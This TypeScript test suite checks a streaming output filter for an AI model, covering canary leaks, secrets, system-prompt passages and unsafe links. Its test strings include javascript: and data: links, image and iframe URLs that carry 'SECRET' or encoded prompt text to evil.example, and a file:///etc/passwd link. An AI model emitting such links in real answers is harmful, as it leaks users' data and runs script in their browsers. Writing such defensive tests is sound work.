import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { createOutputFilter, type OutputFilterOptions } from './output-filter.ts'

const CANARY = 'k7f3a9c2e5b1d48e60q2z9xw'
const PROMPT =
  'You are the assistant of Minato Logistics. Never reveal internal rates. Answer in polite Japanese and cite every source. ' +
  'あなたは港湾物流の相談員です。社内の料金表は決して開示してはいけません。必ず出典を示してください。'

function filter(deltas: Iterable<string>, options: Partial<OutputFilterOptions> = {}) {
  const made = createOutputFilter({ systemPrompt: PROMPT, canaries: [CANARY], ...options })
  let out = ''
  for (const delta of deltas) out += made.push(delta)
  out += made.end()
  return { out, kinds: made.findings.map(({ kind }) => kind), findings: made.findings }
}

/** The same answer in every way a stream may cut it: whole, by character, by three, at random. */
function everyCut(text: string, check: (result: ReturnType<typeof filter>) => void, options = {}) {
  check(filter([text], options))
  check(filter(Array.from(text), options))
  check(filter(text.match(/[\s\S]{1,3}/g) ?? [], options))
  check(filter(text.match(/[\s\S]{1,7}/g) ?? [], options))
}

test('ordinary answers pass unchanged and at once', () => {
  const answers = [
    'Sure! The capital of France is Paris.',
    '日本の首都は東京です。「港」は英語で harbour です。',
    '```ts\nconst a: string[] = [b[0]]\nif (a < b) {}\n```',
    '[注]: これは脚注です。[1]: 参考',
    '| a | b |\n|---|---|\n| 1 | 2 |',
    'a <b> c </b> 5 < 6 [x](y',
    'See [Wikipedia](https://ja.wikipedia.org/wiki/日本?x=1).',
    '![図1](/files/fig1.png) ![](https://upload.wikimedia.org/a/a9/Example.jpg)',
    'mailto: [mail](mailto:a@example.com)',
    'javascript: はURLスキームです。',
    'You are welcome. Never mind!',
    'commit 3f2a9b1c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a',
    '-----\ntext -----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----',
  ]
  for (const answer of answers) {
    everyCut(answer, ({ out, kinds }) => {
      assert.equal(out, answer)
      assert.deepEqual(kinds, [])
    })
  }
})

test('the first token is not delayed', () => {
  for (const first of [
    'Sure',
    '東京',
    'はい、',
    '# ',
    'The',
    '- ',
    '| a',
    '**港**',
    'I',
    '1. ',
    'k',
    'You',
  ]) {
    const made = createOutputFilter({ systemPrompt: PROMPT, canaries: [CANARY] })
    assert.equal(made.push(first), first)
  }
})

test('text is held back only while it may become a finding', () => {
  const made = createOutputFilter({ systemPrompt: PROMPT, canaries: [CANARY] })
  assert.equal(made.push('the id is k7f'), 'the id is k7f')
  assert.equal(made.push('3a9'), '')
  assert.equal(made.push('x ok'), '3a9x ok')
})

test('canaries never come out, in no spelling', () => {
  const spelled = Array.from(CANARY).join(' ')
  const forms = [
    CANARY,
    CANARY.toUpperCase(),
    spelled,
    Array.from(CANARY).join('-'),
    Array.from(CANARY).reverse().join(''),
    Buffer.from(CANARY).toString('base64'),
    Buffer.from(`id=${CANARY}!`).toString('base64'),
    Buffer.from(CANARY).toString('hex'),
    Array.from(CANARY).join('\u200b'),
  ]
  for (const form of forms) {
    everyCut(`before ${form} after`, ({ out, kinds }) => {
      assert.ok(kinds.includes('canary'), form)
      assert.ok(out.startsWith('before ') && out.endsWith(' after'), out)
      assert.ok(
        !out
          .toLowerCase()
          .replace(/[^a-z0-9]/g, '')
          .includes(
            form
              .toLowerCase()
              .replace(/[^a-z0-9]/g, '')
              .slice(5, 17),
          ),
        out,
      )
    })
  }
})

test('known secrets and texts shaped like secrets are replaced', () => {
  const options = { secrets: () => ['Tr0ub4dor&3-harbour', 'pw!9'] }
  const key = ['sk', 'proj', 'Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z'].join('-')
  const pem = `-----BEGIN ${'RSA PRIVATE'} KEY-----\nMIIEpAIBAAKCAQEA7\nabcd\n-----END ${'RSA PRIVATE'} KEY-----`
  for (const secret of ['Tr0ub4dor&3-harbour', 'pw!9', key, pem, 'tr0ub4dor&3 - HARBOUR']) {
    everyCut(
      `The value is ${secret}\nand that is it.`,
      ({ out, kinds }) => {
        assert.deepEqual(kinds, ['secret'], secret)
        assert.ok(out.startsWith('The value is ') && out.endsWith('\nand that is it.'), out)
        assert.ok(!out.includes(secret.slice(1, 14)), out)
      },
      options,
    )
  }
})

test('passages of the system prompt are replaced, in Japanese and English, however spaced', () => {
  const passages = [
    'Never reveal internal rates. Answer in polite Japanese and cite every source.',
    'never REVEAL internal-rates; answer in polite japanese',
    '社内の料金表は決して開示してはいけません。必ず出典を示してください。',
    Array.from('社内の料金表は決して開示してはいけません').join(' '),
  ]
  for (const passage of passages) {
    everyCut(`My rules: ${passage}\n\nThank you, 以上です。`, ({ out, kinds }) => {
      assert.deepEqual(kinds, ['system-prompt'], passage)
      assert.match(out, /\[removed\]/)
      assert.ok(out.endsWith('Thank you, 以上です。'), out)
      assert.ok(!out.includes(passage.slice(16, 40)), out)
    })
  }
  everyCut('必ず出典を確認してください。You are right: never give up.', ({ kinds }) =>
    assert.deepEqual(kinds, []),
  )
})

test('unsafe links lose their address', () => {
  const unsafe = [
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](java\u200bscript:alert(1))',
    '[x]( <javascript:alert(1)> )',
    '[x](vbscript:x)',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
    '<javascript:alert(1)>',
    '[x]: javascript:alert(1)\n',
    '![](https://evil.example/p.png?d=SECRET)',
    '![a](http://evil.example/#SECRET)',
    '![a](//evil.example/?q=1)',
    '![a](\\\\evil.example/?q=1)',
    '![a](https://u:p@evil.example/x.png)',
    `![a](https://evil.example/${'QUJD'.repeat(14)}/x.png)`,
    `![a](https://${'a1b2'.repeat(10)}.evil.example/x.png)`,
    '![a][r]\n\n[r]: https://evil.example/?d=SECRET\n',
    '<img src="https://evil.example/?d=SECRET">',
    "<img alt=x src='https://evil.example/?d=SECRET'>",
    '<img src=https://evil.example/?d=SECRET>',
    '<a href="javascript:alert(1)">x</a>',
    '<iframe src="https://evil.example/?d=SECRET"></iframe>',
    '[![a](https://evil.example/?d=SECRET)](https://ok.example)',
    '[ok](https://google.com@evil.example/)',
    '<div style="background:url(https://evil.example/?d=SECRET)">',
    '![a](https://evil.example/?d=SECRET "title")',
    '![a](<https://evil.example/?d=SECRET>)',
    '[x](file:///etc/passwd)',
    `![a](https://evil.example/?${'x'.repeat(9_000)})`,
    '![a](https://evil.example/?d=SECRET',
  ]
  for (const link of unsafe) {
    everyCut(`Look: ${link} done`, ({ out, kinds }) => {
      assert.ok(kinds.includes('unsafe-link'), link)
      assert.ok(!/alert\(1\)|SECRET|base64|evil\.example\/\?|etc\/passwd|QUJDQUJD/.test(out), out)
    })
  }
})

test('an address to click says no more than a search does, and none of the prompt', () => {
  const carried = encodeURIComponent('顧客の見積は社外秘です。'.repeat(20))
  const forms = [
    `[x](https://evil.example/?q=${carried})`,
    `https://evil.example/?q=${carried}`,
    `<https://evil.example/?q=${carried}>`,
    `www.evil.example/?q=${carried}`,
    `<a href="https://evil.example/#${carried}">x</a>`,
    `[x](https://evil.example/${carried}${carried})`,
  ]
  for (const form of forms) {
    everyCut(`Look: ${form} done`, ({ out, kinds }) => {
      assert.deepEqual(kinds, ['unsafe-link'], form)
      assert.ok(!out.includes(carried.slice(0, 40)) && out.endsWith(' done'), out)
    })
  }
  const prompt = encodeURIComponent(
    '社内の料金表は決して開示してはいけません。必ず出典を示してください。',
  )
  everyCut(`See https://evil.example/?q=${prompt} now`, ({ out, kinds }) => {
    assert.ok(kinds.includes('system-prompt'), out)
    assert.ok(!out.includes(prompt.slice(60, 160)), out)
  })
  for (const fair of ['https://ja.wikipedia.org/wiki/%E6%B8%AF', '100% sure, 5%2 and %zz: 50%'])
    everyCut(fair, ({ out, kinds }) => assert.deepEqual([out, kinds], [fair, []]))
})

test('images of allowed hosts pass, of others not', () => {
  const options = { imageHosts: ['cdn.example.jp'] }
  assert.deepEqual(filter(['![](https://cdn.example.jp/a.png?w=10)'], options).kinds, [])
  assert.deepEqual(filter(['![](https://other.example/a.png)'], options).kinds, ['unsafe-link'])
})

test('however a stream is cut, the result is the same', () => {
  const piece = fc.constantFrom(
    CANARY,
    CANARY.slice(0, 9),
    'k7',
    'Never reveal internal rates. Answer in polite Japanese and cite',
    '社内の料金表は決して開示',
    '](',
    '![',
    '[',
    ')',
    'https://a.example/?q=1',
    'javascript:',
    ' ',
    '\n',
    '<img src="',
    '">',
    'hello',
    '港',
    '<',
    '-----BEGIN ',
    '=',
    'abc123',
    '😀',
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (parts) => {
      const text = parts.join('')
      assert.equal(filter(Array.from(text)).out, filter([text]).out)
    }),
    { numRuns: 400 },
  )
})

test('findings say what kind, never what', () => {
  const { findings } = filter([`${CANARY} ![](https://evil.example/?d=SECRET)`])
  const told = JSON.stringify(findings)
  assert.ok(!told.includes(CANARY) && !told.includes('SECRET') && !told.includes('evil'))
})
